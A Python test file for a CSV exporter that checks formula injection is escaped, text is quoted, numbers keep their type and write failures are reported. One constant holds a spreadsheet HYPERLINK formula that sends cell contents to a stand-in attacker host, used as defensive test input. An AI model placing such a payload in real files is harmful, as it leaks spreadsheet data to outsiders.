"""Tables written to CSV: names are no formulas, numbers stay numbers."""

from __future__ import annotations

import csv
import errno
import os

import numpy as np
import pandas as pd
import pytest

from hta_widgets.errors import WriteError
from hta_widgets.export import csv_file
from hta_widgets.export.csv_file import FORMULA_STARTS, write_csv
from tests.panels.fakes import FakePanel, fake_job

COMMAND = 'HYPERLINK("https://evil.example?x="&A1)'


def rows(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("kind", ["object", "category", "string"])
def test_a_name_is_no_formula(tmp_path, start, kind):
    name = f"{start}{COMMAND}"
    table = pd.DataFrame({"name": pd.Series([name, "gemm"], dtype=kind), "count": [1, 2]})
    path = write_csv(table, tmp_path / "a.csv")
    assert rows(path)[1:] == [[f"'{name}", "1"], ["gemm", "2"]]


def test_every_text_is_quoted_so_that_a_comma_starts_no_cell(tmp_path):
    table = pd.DataFrame({"name": ["f<int, =1>", 'say "a"']})
    path = write_csv(table, tmp_path / "a.csv")
    assert path.read_text() == '"name"\n"f<int, =1>"\n"say ""a"""\n'


def test_numbers_stay_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "whole": [-3, 2**62],
            "real": [-0.5, np.nan],
            "perhaps": pd.array([-1, None], dtype="Int64"),
            "is_it": [True, False],
        }
    )
    path = write_csv(table, tmp_path / "a.csv")
    assert path.read_text().splitlines()[1] == "-3,-0.5,-1,True"
    assert rows(path)[2] == [str(2**62), "", "", "False"]


def test_nor_is_a_heading(tmp_path):
    assert rows(write_csv(pd.DataFrame({"=1": [1]}), tmp_path / "a.csv"))[0] == ["'=1"]


def test_the_table_stays_as_it_is(tmp_path):
    table = pd.DataFrame({"name": ["=1"]})
    write_csv(table, tmp_path / "a.csv")
    assert table["name"].tolist() == ["=1"]


def test_what_cannot_be_written_is_named(tmp_path, monkeypatch):
    def refuse(*_args, **_options):
        raise OSError(errno.EROFS, os.strerror(errno.EROFS))

    monkeypatch.setattr(csv_file, "atomic_write", refuse)
    with pytest.raises(WriteError, match=r"a\.csv cannot be written"):
        write_csv(pd.DataFrame({"name": ["x"]}), tmp_path / "a.csv")


def test_a_panel_writes_all_rows(tmp_path):
    panel = FakePanel(fake_job(), bars=300)
    path = panel.write_csv(tmp_path / "bars.csv")
    assert len(rows(path)) == 1 + 300
